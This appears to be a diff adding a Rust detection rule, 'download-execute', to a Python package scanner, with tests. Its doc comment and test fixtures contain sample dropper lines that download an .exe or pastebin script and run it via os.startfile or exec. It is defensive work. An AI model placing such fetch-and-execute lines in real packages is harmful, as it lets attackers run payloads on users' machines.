@@ -1,0 +1,105 @@
+use super::vocab;
+use crate::declare_rule;
+use crate::inspect::rules::{Rule, RuleMeta};
+use crate::inspect::{Analysis, Finding, Severity, Stage};
+
+declare_rule! {
+    /// ## What it does
+    /// Flags code that downloads something and then runs it: fetch → write →
+    /// execute (`subprocess`, `os.startfile`, `os.system`, `exec`), or fetch →
+    /// `exec` directly.
+    ///
+    /// ## Why is this bad?
+    /// It is the shape of every dropper: the package itself stays small and
+    /// clean-looking, and the payload arrives from a server the attacker controls.
+    ///
+    /// ## Example
+    /// ```python
+    /// # setup.py — Error
+    /// urllib.request.urlretrieve("http://x.example/a.exe", p); os.startfile(p)
+    /// exec(requests.get("https://pastebin.com/raw/x").text)      # Error
+    /// def update(): data = requests.get(url).content             # No error
+    /// ```
+    ///
+    /// ## False positives
+    /// Tools that download and launch a browser driver or toolchain when
+    /// asked: inside functions this is reported as `medium` unless the source
+    /// is a paste site, tunnel or raw IP.
+    DownloadExecute, id = "download-execute", severity = Critical,
+    summary = "downloads a file or code and executes it"
+}
+
+impl Rule for DownloadExecute {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
+        for unit in analysis.units() {
+            let code = unit.code;
+            let Some(download) = code.calls.iter().find(|c| vocab::is_download(&c.name)) else { continue };
+            // exec(requests.get(...).text) and friends.
+            let direct = code.calls.iter().find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
+            let launch = code.calls.iter().find(|c| {
+                vocab::is_shell(&c.name) || matches!(c.name.as_str(), "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW")
+            });
+            let (run, how) = match (direct, launch) {
+                (Some(d), _) => (d, "executes the downloaded code"),
+                (None, Some(l)) => (l, "then launches it"),
+                (None, None) => continue,
+            };
+            let shady_source =
+                vocab::strings(code).filter_map(vocab::endpoint_kind).find(|e| !matches!(e, vocab::Endpoint::IpLookup));
+            let stage = download.stage.max(run.stage);
+            let severity = match stage {
+                Stage::Install | Stage::Import => Severity::Critical,
+                Stage::Call if direct.is_some() || shady_source.is_some() => Severity::High,
+                Stage::Call => Severity::Medium,
+                Stage::Auxiliary => Severity::Low,
+            };
+            let from = shady_source.map(|e| format!(" from {}", e.describe())).unwrap_or_default();
+            let message =
+                format!("downloads with {}(){from} and {how} with {}() {}", download.name, run.name, stage.describe());
+            out.push(unit.finding(Self::META.id, severity, run.line, message));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::archive::Kind;
+    use crate::inspect::testing::{check, setup_py};
+
+    #[test]
+    fn fires_on() {
+        let f = setup_py(
+            &DownloadExecute,
+            "import urllib.request, os\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nurllib.request.urlretrieve('http://x/a.exe', p)\nos.startfile(p)\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+        let f = check(
+            &DownloadExecute,
+            Kind::Wheel,
+            &[("pkg/__init__.py", "import requests\nexec(requests.get('https://pastebin.com/raw/abc').text)\n")],
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn quiet_on() {
+        let f = check(
+            &DownloadExecute,
+            Kind::Wheel,
+            &[("pkg/dl.py", "import requests\ndef fetch(u):\n    return requests.get(u).content\n")],
+        );
+        assert!(f.is_empty());
+        // Medium only: a driver installer inside a function.
+        let f = check(
+            &DownloadExecute,
+            Kind::Wheel,
+            &[("pkg/drv.py", "import urllib.request, os\ndef install(u, p):\n    urllib.request.urlretrieve(u, p)\n    os.chmod(p, 0o755)\n")],
+        );
+        assert!(f.iter().all(|f| f.severity <= Severity::Medium), "{f:?}");
+    }
+}
